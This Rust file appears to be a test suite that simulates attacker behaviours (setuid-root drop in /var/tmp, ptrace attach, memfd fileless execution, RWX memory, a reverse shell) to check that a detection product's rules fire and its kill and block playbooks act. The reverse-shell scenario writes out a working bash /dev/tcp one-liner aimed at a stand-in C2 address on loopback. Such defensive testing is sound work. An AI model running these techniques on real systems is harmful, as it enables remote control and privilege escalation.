//! Process behaviours: a dropped setuid payload, ptrace, fileless and RWX execution, a reverse
//! shell. The raw syscalls come from the test actor (tests/src/bin/actor.rs).

use std::{
    io::{BufRead, BufReader, Write},
    net::{TcpListener, TcpStream},
    os::unix::{fs::PermissionsExt, process::ExitStatusExt},
    path::{Path, PathBuf},
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use anyhow::{Context, bail};

use super::{Cleanup, Expect, Scenario, Severity, actor, cleanup::unique, done};
use crate::run::stack::{Stack, output_of};

/// A copy of the actor dropped in /var/tmp, made setuid root, run by a test account, which
/// then sets its ids to root.
pub const SETUID_DROP: Scenario = Scenario {
    name: "setuid-drop",
    technique: "T1548.001",
    description: "a setuid-root binary dropped in /var/tmp and run by an unprivileged account",
    expect: Expect {
        rules: &[
            "qsc-setuid-bit-set",
            "qsc-exec-from-world-writable",
            "qsc-setid-to-root",
        ],
        min_severity: Severity::Critical,
        confidence: (0.99, 1.0),
        // Alone: the dropped copy is quarantined for real once it has run (the playbook
        // matches its exec, not the chmod before it).
        action: done("quarantine"),
    },
    perform: setuid_drop,
    patience: Duration::from_secs(20),
    after_action: None,
};

fn setuid_drop(stack: &mut Stack, cleanup: &mut Cleanup) -> anyhow::Result<()> {
    let payload = drop_payload(cleanup, &actor(stack), "payload")?;
    std::fs::set_permissions(&payload, std::fs::Permissions::from_mode(0o4755))?;
    let mut cmd = as_test_user(cleanup, "s")?;
    output_of(cmd.arg(&payload).arg("setuid-root")).map(drop)
}

/// Copies `source` into /var/tmp (a folder every user may write to) as `qscatk-*-name`; the
/// copy is removed at the end.
pub fn drop_payload(cleanup: &mut Cleanup, source: &Path, name: &str) -> anyhow::Result<PathBuf> {
    let payload = PathBuf::from(format!("/var/tmp/{}", unique(&format!("-{name}"))));
    cleanup.path(&payload);
    std::fs::copy(source, &payload)
        .with_context(|| format!("cannot drop {} as {}", source.display(), payload.display()))?;
    Ok(payload)
}

/// `setpriv` running the program given next as a new test account `qscatk*<suffix>`: the
/// cortex never acts on root's processes, so behaviours whose playbooks kill run unprivileged.
fn as_test_user(cleanup: &mut Cleanup, suffix: &str) -> anyhow::Result<Command> {
    let user = unique(suffix);
    cleanup.user(&user)?;
    let mut cmd = Command::new("setpriv");
    cmd.args(["--reuid", &user, "--regid", &user, "--init-groups"]);
    Ok(cmd)
}

/// PTRACE_ATTACH to a `sleep` the scenario started.
pub const PTRACE_ATTACH: Scenario = Scenario {
    name: "ptrace-attach",
    technique: "T1055.008",
    description: "ptrace attach to another process",
    expect: Expect {
        rules: &["qsc-ptrace-attach"],
        // One attach alone is LOW: profilers and debuggers attach too (qsc-ptrace-attach's LR).
        min_severity: Severity::Low,
        confidence: (0.1, 0.5),
        action: None,
    },
    perform: |stack, cleanup| {
        let victim = cleanup.child(Command::new("sleep").arg("30").spawn()?);
        output_of(
            Command::new(actor(stack))
                .arg("ptrace-attach")
                .arg(victim.to_string()),
        )
        .map(drop)
    },
    patience: Duration::from_secs(20),
    after_action: None,
};

/// /bin/true copied into a memfd and executed from it.
pub const MEMFD_EXEC: Scenario = Scenario {
    name: "memfd-exec",
    technique: "T1620",
    description: "fileless execution: a program run from memfd_create memory",
    expect: Expect {
        rules: &["qsc-memfd-exec", "qsc-memfd-create"],
        // Running a program from memory is HIGH or above alone, so the kill playbook acts.
        min_severity: Severity::High,
        confidence: (0.8, 1.0),
        // Alone: the payload (the scenario's own child) is killed for real.
        action: done("kill"),
    },
    perform: |stack, cleanup| {
        // cat from memory waits on its stdin (held open by the cleanup's child) until killed.
        let mut cmd = as_test_user(cleanup, "m")?;
        let payload = cmd
            .arg(actor(stack))
            .args(["memfd-exec", "/bin/cat"])
            .stdin(Stdio::piped())
            .stdout(Stdio::null())
            .spawn()?;
        cleanup.child(payload);
        Ok(())
    },
    patience: Duration::from_secs(20),
    after_action: None,
};

/// An anonymous mapping both writable and executable, held for a second.
pub const RWX_MEMORY: Scenario = Scenario {
    name: "rwx-memory",
    technique: "T1055",
    description: "writable and executable memory mapped in a process",
    expect: Expect {
        rules: &["qsc-rwx-memory"],
        // One W+X mapping alone is LOW: JITs and old code map it too (qsc-rwx-memory's LR).
        min_severity: Severity::Low,
        confidence: (0.1, 0.5),
        action: None,
    },
    perform: |stack, _| output_of(Command::new(actor(stack)).args(["mmap-rwx", "1000"])).map(drop),
    patience: Duration::from_secs(20),
    after_action: None,
};

/// The "command and control" address of the reverse shell: TEST-NET-2, added to `lo` for the
/// scenario, so the connection stays on this host but is not a loopback one.
const C2_ADDRESS: &str = "198.51.100.77";

/// bash connects to a listener of the scenario and executes a shell on the socket.
pub const REVERSE_SHELL: Scenario = Scenario {
    name: "reverse-shell",
    technique: "T1059.004",
    description: "reverse shell: connect out, then exec a shell with its fds on the socket",
    expect: Expect {
        rules: &["qsc-reverse-shell"],
        // A reverse shell is HIGH or above alone, so the containment playbook acts.
        min_severity: Severity::High,
        confidence: (0.8, 1.0),
        // Alone: the shell (the scenario's own child) is killed and its peer blocked for real.
        action: done("kill"),
    },
    perform: reverse_shell,
    patience: Duration::from_secs(20),
    after_action: Some(peer_blocked_then_released),
};

/// The TTL of the real block of the C2 address (`attack-contain-reverse-shell`'s `ttl_s`).
const C2_BLOCK_TTL: Duration = Duration::from_secs(4);

/// After the real `block_ip`: a new connect to the C2 address is refused (within 5 s, while
/// the block reaches the agent), and succeeds again once the block's TTL rolled it back.
fn peer_blocked_then_released() -> anyhow::Result<()> {
    let listener = TcpListener::bind((C2_ADDRESS, 0))?;
    let target = listener.local_addr()?;
    let connects = || TcpStream::connect_timeout(&target, Duration::from_secs(1)).is_ok();
    let blocked = wait_until(Duration::from_secs(5), || !connects());
    let Some(blocked_after) = blocked else {
        bail!("connects to {C2_ADDRESS} still succeed 5 s after the block_ip action");
    };
    let released = wait_until(C2_BLOCK_TTL + Duration::from_secs(10), connects);
    let Some(released_after) = released else {
        bail!(
            "connects to {C2_ADDRESS} still refused {:?} after the block's {C2_BLOCK_TTL:?} TTL",
            C2_BLOCK_TTL + Duration::from_secs(10)
        );
    };
    eprintln!(
        "   {C2_ADDRESS} refused after {blocked_after:?}, reachable again {released_after:?} later (TTL {C2_BLOCK_TTL:?})"
    );
    Ok(())
}

/// Whether a process ended by SIGKILL (what the `kill` action sends).
fn killed(status: Option<std::process::ExitStatus>) -> bool {
    status.and_then(|s| s.signal()) == Some(libc::SIGKILL)
}

/// Polls `done` every 50 ms until it holds (how long that took) or `limit` passed.
fn wait_until(limit: Duration, mut done: impl FnMut() -> bool) -> Option<Duration> {
    let start = Instant::now();
    while start.elapsed() < limit {
        if done() {
            return Some(start.elapsed());
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    None
}

fn reverse_shell(_: &mut Stack, cleanup: &mut Cleanup) -> anyhow::Result<()> {
    cleanup.loopback_address(C2_ADDRESS)?;
    let listener = TcpListener::bind((C2_ADDRESS, 0))?;
    let port = listener.local_addr()?.port();
    listener.set_nonblocking(true)?;
    let shell = as_test_user(cleanup, "r")?
        .arg("bash")
        .arg("-c")
        .arg(format!(
            "exec 3<>/dev/tcp/{C2_ADDRESS}/{port}; exec /bin/sh <&3 >&3 2>&3"
        ))
        .stdin(Stdio::null())
        .spawn()?;
    let shell = cleanup.child(shell);
    let deadline = Instant::now() + Duration::from_secs(10);
    let mut conn = loop {
        match listener.accept() {
            Ok((conn, _)) => break conn,
            Err(err) if err.kind() == std::io::ErrorKind::WouldBlock => {
                if Instant::now() > deadline {
                    bail!("the reverse shell did not connect within 10 s");
                }
                std::thread::sleep(Duration::from_millis(5));
            }
            Err(err) => return Err(err.into()),
        }
    };
    conn.set_nonblocking(false)?;
    conn.set_read_timeout(Some(Duration::from_secs(10)))?;
    // Sent at once, so the shell reads it as it starts: the real playbook kills it within
    // milliseconds of its exec.
    conn.write_all(b"echo qscatk-shell-$$\n")?;
    let mut answer = String::new();
    // A shell killed with our command unread resets the connection instead of closing it.
    match BufReader::new(conn.try_clone()?).read_line(&mut answer) {
        Err(err) if err.kind() != std::io::ErrorKind::ConnectionReset => return Err(err.into()),
        _ => {}
    }
    if !answer.contains("qscatk-shell-") {
        let mut ended = None;
        wait_until(Duration::from_secs(1), || {
            ended = cleanup.exit_status(shell);
            ended.is_some()
        });
        if !(answer.is_empty() && killed(ended)) {
            bail!("the reverse shell did not answer (got {answer:?}; its process: {ended:?})");
        }
        eprintln!("   the reverse shell was killed before it answered");
    }
    // The shell stays connected, waiting for commands, until it is killed (by the playbook
    // when the scenario runs alone, else by the cleanup).
    cleanup.keep(conn);
    Ok(())
}
